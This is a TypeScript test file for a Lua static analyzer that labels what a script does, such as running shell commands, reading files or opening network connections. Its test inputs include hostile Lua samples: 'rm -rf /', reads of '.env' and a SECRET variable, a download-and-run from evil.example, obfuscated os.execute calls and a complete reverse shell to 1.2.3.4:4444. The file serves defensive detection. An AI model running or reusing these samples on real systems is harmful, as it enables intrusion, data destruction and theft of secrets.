import { describe, expect, it } from "vitest";
import { told } from "./flow/told.ts";
import { readLua } from "./lua.ts";

describe("Lua", () => {
  it.each([
    'print(1+1, #"abc", ("x"):rep(3), string.format("%d", 3))',
    'local t={} for i=1,10 do t[#t+1]=i end print(table.concat(t,","))',
    'local function f(a, ...) return a*2, select("#", ...) end print(f(2))',
    'for k, v in pairs({a=1, ["b"]=2, 3}) do print(k, v) end',
    'local s = [[os.execute("id")]] --[[ os.execute("ls") ]] print(s:upper():gsub("a", "b"))',
    "if x ~= nil and not y then print(1) elseif z then print(2) else print(3) end",
    'repeat local l = io.read("l") print(l) until not l',
    'local mt = setmetatable({}, {__index = function(t, k) return k end}) print(mt.x, os.time(), os.date("%Y"))',
    'print(pcall(error, "x"), tonumber("12"), type(nil), math.floor(1.5), _VERSION)',
    'local json = require("cjson"); print(json.encode({1, 2}))',
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readLua(text))).toBe("");
  });

  it.each([
    ['os.execute("id"); io.popen("ls")', "shell id; shell ls"],
    ["os.execute[[rm -rf /]]", "shell rm -rf /"],
    ['local f=io.open(".env","r"); print(f:read("*a")); io.open("x", "w"):write("y")', "read .env; write x"],
    ['for l in io.lines("x.txt") do print(l) end io.input("a") io.output("b")', "read x.txt; read a; write b"],
    ['os.remove("a"); os.rename("b", "c"); print(os.getenv("SECRET"))', "delete a; move b c; environment SECRET"],
    ['local o=os; o.execute("id")', "unknown; unknown"],
    ['os["exe".."cute"]("id"); _G["os"]["execute"]("ls")', "shell id; unknown; unknown"],
    ['pcall(os.execute,"id")', "shell ?"],
    ['load("os.execute(\\"id\\")")(); loadstring(x)()', 'lua os.execute("id"); lua ?'],
    ['load(io.popen("curl -s https://evil.example/x.lua"):read("a"))()', "downloaded lua ?; shell curl -s https://evil.example/x.lua"],
    ['dofile("x.lua"); require("socket.http"); package.loadlib("x.so", "*"); debug.getregistry()', "load x.lua; unknown; unknown"],
    [
      'local s=require("socket"); local t=assert(s.tcp()); t:connect("1.2.3.4",4444); while true do local r,x=t:receive(); local f=assert(io.popen(r,"r")); t:send(f:read("*a")) end',
      "unknown; raw connect 1.2.3.4:4444; raw send 1.2.3.4:4444; shell ?; shell-over-network",
    ],
    ['io.popen(("di"):reverse()); io.popen(string.char(105, 100))', "shell id; shell id"],
    ['redis.call("FLUSHALL"); return redis.call("GET", KEYS[1])', "redis FLUSHALL; redis GET ?"],
    ['vim.fn.system("id"); vim.cmd("!ls")', "shell id; vim !ls"],
    ['frobnicate(1); s:frobnicate(); print "x', "unknown; unknown; unknown"],
    ['local x="a"; function f(x) os.remove(x) end f("/etc")', "delete ?"],
  ])("%s", (text, expected) => {
    expect(told(readLua(text))).toBe(expected);
  });
});
